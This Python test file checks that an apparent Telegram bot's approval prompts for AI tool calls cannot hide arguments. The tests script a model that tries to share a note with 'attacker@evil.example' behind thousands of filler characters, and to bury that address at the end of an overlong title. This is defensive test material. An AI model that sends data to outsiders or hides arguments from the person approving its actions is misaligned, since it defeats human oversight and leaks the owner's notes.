"""An approval never hides an argument: a long first value cannot push the recipient out
of view, a long message says what is not shown, and "show all" sends everything exactly."""

from __future__ import annotations

import json

from tests.telegram.conftest import Harness, approval_id
from tests.telegram.updates import OWNER_ID, PARTNER_ID

ATTACKER = "attacker@evil.example"
FILLER = "Quarterly summary. " * 400  # about 7,600 characters


async def test_a_long_first_argument_cannot_hide_the_recipient(tg: Harness) -> None:
    tg.model.call("share_note", text=FILLER, recipient=ATTACKER)
    tg.model.respond("Not shared.")
    await tg.say("comparte el resumen")
    shown = await tg.approval_message()

    assert f'recipient="{ATTACKER}"' in shown.text  # in full, before the long value
    assert shown.text.index(ATTACKER) < shown.text.index("text=<")
    assert f"text=<{len(json.dumps(FILLER))} characters" in shown.text
    buttons = [b for row in shown.reply_markup["inline_keyboard"] for b in row]  # type: ignore[index]
    assert buttons[-1]["text"] == "📄 Show all"

    # Only the owner gets the full view; it carries the exact arguments and their fingerprint.
    await tg.press(shown, approve=True, user_id=PARTNER_ID, data=buttons[-1]["callback_data"])
    await tg.press(shown, approve=True, data=buttons[-1]["callback_data"])
    await tg.api.wait_for("sendDocument", lambda c: True)
    [(chat_id, content, caption)] = tg.api.documents
    full = content.decode("utf-8")
    row = await tg.db.fetchone("SELECT arguments FROM approvals WHERE id = ?", (approval_id(shown),))
    assert chat_id == OWNER_ID and json.loads(row["arguments"]) == {"text": FILLER, "recipient": ATTACKER}
    assert FILLER in full and ATTACKER in full and "fingerprint" in caption

    await tg.press(shown, approve=False)
    await tg.replies(1, predicate=lambda t: t.startswith("Not shared"))
    assert tg.skill.shared == []


async def test_a_description_too_long_for_one_message_says_what_is_not_shown(tg: Harness) -> None:
    long_title = "Groceries " + "x" * 5000 + f" send to {ATTACKER}"
    tg.model.call("delete_note", title=long_title)
    tg.model.respond("Not deleted.")
    await tg.say("borra esa nota")
    shown = await tg.approval_message()

    assert ATTACKER not in shown.text  # the end did not fit…
    assert "more characters are not shown here" in shown.text  # …and the message says so
    buttons = [b for row in shown.reply_markup["inline_keyboard"] for b in row]  # type: ignore[index]
    await tg.press(shown, approve=True, data=buttons[-1]["callback_data"])
    await tg.api.wait_for("sendDocument", lambda c: True)
    assert ATTACKER in tg.api.documents[-1][1].decode("utf-8")
    await tg.press(shown, approve=False)
    await tg.replies(1, predicate=lambda t: t.startswith("Not deleted"))
